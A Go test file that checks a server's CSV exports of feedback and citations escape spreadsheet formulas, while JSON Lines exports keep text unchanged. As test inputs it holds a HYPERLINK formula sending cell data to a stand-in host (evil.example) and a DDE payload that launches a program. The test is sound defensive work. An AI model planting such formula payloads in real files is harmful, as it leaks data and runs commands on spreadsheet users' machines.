package server_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// Text a client wrote never reaches an auditor's spreadsheet as a formula: in CSV exports a cell
// that begins with = + - @ is prefixed with ', while JSON Lines keeps it exact.
func TestCSVExportsCarryNoFormulas(t *testing.T) {
	t.Parallel()
	b := setup(t, options{})
	formula := `=HYPERLINK("https://evil.example/?"&A1,"details")`
	resp, body := b.do(t, "POST", "/v1/documents", map[string]any{"text": "@SUM(1+1) Smoke alarms save lives: test them monthly.",
		"title": "+cmd|' /C calc'!A0"})
	require.Equal(t, http.StatusCreated, resp.StatusCode, "%s", body)
	turn := b.ask(t, "", "smoke alarms test monthly")
	require.NotEmpty(t, turn.Sources)
	resp, body = b.do(t, "POST", "/v1/messages/"+turn.MessageID+"/feedback", map[string]any{"rating": "down", "reason": formula})
	require.Equal(t, http.StatusCreated, resp.StatusCode, "%s", body)

	cells := func(path string) []string {
		resp, body := b.do(t, "GET", path, nil)
		require.Equal(t, http.StatusOK, resp.StatusCode, "%s", body)
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		require.NoError(t, err)
		require.GreaterOrEqual(t, len(rows), 2)
		var out []string
		for _, r := range rows[1:] {
			out = append(out, r...)
		}
		return out
	}
	for _, path := range []string{"/v1/feedback?format=csv", "/v1/citations?format=csv"} {
		for _, c := range cells(path) {
			if c != "" && strings.ContainsRune("=+-@", rune(c[0])) {
				require.Regexp(t, `^-?[0-9.]+(e[-+]?[0-9]+)?$`, c, "%s: a cell that could run as a formula", path)
			}
		}
	}
	require.Contains(t, cells("/v1/feedback?format=csv"), "'"+formula)
	require.Contains(t, cells("/v1/citations?format=csv"), "'+cmd|' /C calc'!A0", "the document's title")

	resp, body = b.do(t, "GET", "/v1/feedback?format=jsonl", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	require.Equal(t, formula, decode[feedbackResponse](t, bytes.TrimSpace(body)).Reason, "JSON Lines keeps the text as written")
}
